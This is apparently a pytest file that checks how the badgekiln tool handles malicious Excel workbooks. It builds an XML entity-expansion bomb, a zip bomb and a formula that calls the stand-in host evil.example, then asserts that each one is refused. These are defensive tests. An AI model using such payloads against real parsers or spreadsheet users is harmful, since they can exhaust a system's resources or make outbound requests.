"""A malicious spreadsheet given to ``badgekiln award --csv`` (issue 9.7, threat T9)."""

from __future__ import annotations

import io
import zipfile

import openpyxl
from conftest import TODAY

from badgekiln.sources import sheets


def workbook_bytes(rows) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rewrite(data: bytes, name: str, change) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            target.writestr(info.filename, change(content) if info.filename == name else content)
    return out.getvalue()


ROWS = [["name", "email", "badge", "issued_on"], ["Ann", "ann2@example.com", "first-badge", "2026-06-01"]]


def test_an_xml_entity_bomb_in_a_workbook_is_refused(minimal_site, run, tmp_path):
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{n} "{("&lol%s;" % (n - 1 if n > 1 else "")) * 10}">' for n in range(1, 10))
        + "]>"
    ).encode()

    def poison(content: bytes) -> bytes:
        body = content.split(b"?>", 1)[-1]
        return bomb + body.replace(b"<v>Ann</v>", b"<v>&lol9;</v>").replace(b">Ann<", b">&lol9;<")

    path = tmp_path / "awards.xlsx"
    path.write_bytes(rewrite(workbook_bytes(ROWS), "xl/worksheets/sheet1.xml", poison))
    result = run("award", "--csv", str(path), "--source", str(minimal_site), "--today", TODAY)
    assert result.code == 1
    assert "awards.xlsx: error[bad-xlsx]: cannot read this Excel workbook" in result.err
    assert "Traceback" not in result.err and not (minimal_site / "recipients/ann-2.yaml").exists()


def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(minimal_site, run, tmp_path, monkeypatch):
    monkeypatch.setattr(sheets, "MAX_UNPACKED_BYTES", 4 * 1024 * 1024)
    data = workbook_bytes(ROWS)
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/padding.bin", b"\0" * (8 * 1024 * 1024))  # compresses to a few KB
    path = tmp_path / "awards.xlsx"
    path.write_bytes(out.getvalue())
    assert path.stat().st_size < 100_000
    result = run("award", "--csv", str(path), "--source", str(minimal_site), "--today", TODAY)
    assert result.code == 1
    assert "awards.xlsx: error[bad-xlsx]: the workbook unpacks to more than 4194304 bytes" in result.err


def test_formulas_in_a_workbook_are_never_evaluated(minimal_site, run, tmp_path):
    """A formula without a cached value is refused by cell (it would read as an empty cell);
    badgekiln never calculates anything."""
    path = tmp_path / "awards.xlsx"
    path.write_bytes(
        workbook_bytes(
            [ROWS[0], ['=WEBSERVICE("https://evil.example/")', "ann2@example.com", "first-badge", "2026-06-01"]]
        )
    )
    result = run("award", "--csv", str(path), "--source", str(minimal_site), "--today", TODAY)
    assert result.code == 1
    assert (
        "awards.xlsx:2:1 (cell A2): error[unsaved-formula]: cell A2 holds a formula whose result is not saved"
        in result.err
    )
    assert "evil.example" not in result.err
